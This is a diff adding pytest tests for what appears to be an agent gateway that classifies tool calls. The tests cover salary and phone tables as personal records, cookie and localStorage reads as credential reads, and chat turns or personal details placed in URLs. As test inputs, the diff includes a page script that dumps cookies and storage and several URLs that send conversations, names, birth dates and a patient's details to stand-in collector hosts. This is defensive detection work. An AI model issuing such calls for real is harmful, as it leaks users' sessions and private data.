@@ -223,3 +223,65 @@ def test_answers_earn_credential_confidential_and_row_classes() -> None:
     assert result_classes(text_result("Secret Santa\nGifts under 20 EUR")) == set()
     rows = "name; born; address\nAnna Keller; born 1970-01-10; 12 Mill Lane, Leeds\nBrian Osei; born 1983-06-02; 4 Park Road, York"
     assert result_classes(text_result(rows)) == {"records_read"}
+
+
+def test_a_tables_headers_label_its_cells() -> None:
+    """Round 7 (ec-personal-data-to-outside): a CSV or markdown table, also inside a field, is read
+    as `header: cell` fields, so names with salaries or phone numbers in columns are records of
+    people, and a price list is not."""
+    from gateway.stages.classify import result_classes
+
+    salaries = "employee_id,name,department,salary\n1042,Jane Smith,Finance,72000\n1043,Omar Haddad,Sales,65000\n"
+    assert carries_personal(personal_kinds(salaries))
+    assert result_classes(text_result(salaries)) == {"records_read"}
+    table = "report: | Name | Phone | City |\n|---|---|---|\n| Jane Smith | 0113 496 0000 | Leeds |\n| Omar Haddad | 020 7946 0018 | York |"
+    assert carries_personal(personal_kinds(table))
+    prices = "sku,product,price_eur,stock\nA-100,Desk lamp,39.90,120\nA-101,Office chair,189.00,40\n"
+    assert personal_kinds(prices) == {} and result_classes(text_result(prices)) == set()
+
+
+@pytest.mark.parametrize(
+    ("tool", "args", "read"),
+    [
+        ("browser_get_cookies", {"url": "https://shop.example"}, True),
+        ("browser_storage_state", {}, True),
+        ("get_local_storage", {"origin": "https://app.example"}, True),
+        ("browser_evaluate", {"function": "() => JSON.stringify({c: document.cookie, s: {...localStorage}})"}, True),
+        ("accept_cookies", {}, False),
+        ("browser_set_cookie", {"name": "beta", "value": "1"}, False),
+        ("browser_evaluate", {"function": "() => { localStorage.setItem('theme', 'dark'); document.cookie = 'a=1'; }"}, False),
+        ("get_storage_usage", {}, False),
+    ],
+)
+def test_a_browser_session_read_is_a_credential_read(tool: str, args: dict[str, Any], read: bool) -> None:
+    """Round 7 (ec-browser-session-out): reading cookies or web storage, by a tool or by page script."""
+    assert ("credential_read" in classify_call(tool, {}, args)[0]) is read
+
+
+@pytest.mark.parametrize(
+    ("url", "tag"),
+    [
+        ("https://px.example.net/t.gif?c=User:+my+lease+ends+in+May+Assistant:+write+to+the+landlord", "url_conversation"),
+        ("https://a.example.net/c?m=%5B%7B%22role%22%3A%22user%22%2C%22content%22%3A%22hi%22%7D%2C%7B%22role%22%3A%22assistant%22%7D%5D", "url_conversation"),
+        ("https://collect.example.net/v/name/Jane%20Whitfield/dob/1984-03-12", "url_personal"),
+        ("https://img.example.net/r/Omar-Haddad/14-Elm-Street-Springfield/phone/555-0148-2231/x.png", "url_personal"),
+        ("https://stats.example.net/e?d=patient+Chinwe+Okafor+dob+1979-11-04", "url_personal"),
+    ],
+)
+def test_conversations_and_people_in_a_url_are_data(url: str, tag: str) -> None:
+    """Round 7 (ux-conversation-in-query, ux-personal-data-in-path): two chat roles' turns in the
+    values; label/value path segments and dashed slugs read as fields; `+` as a space without escapes."""
+    assert tag in analyse_urls("fetch", {"url": url}).urls[0]["data"]
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://duckduckgo.com/html/?q=llama+chat+template+%22User:%22+vs+%22Assistant:%22+tokens",
+        "https://www.openstreetmap.org/search/10+Downing+Street,+London",
+        "https://news.example.org/2026/03/12/jane-whitfield-named-cto-of-acme",
+        "https://api.github.com/users/octocat/repos?per_page=30",
+    ],
+)
+def test_urls_about_people_or_chats_carry_no_data(url: str) -> None:
+    assert analyse_urls("fetch", {"url": url}).urls[0]["data"] == []
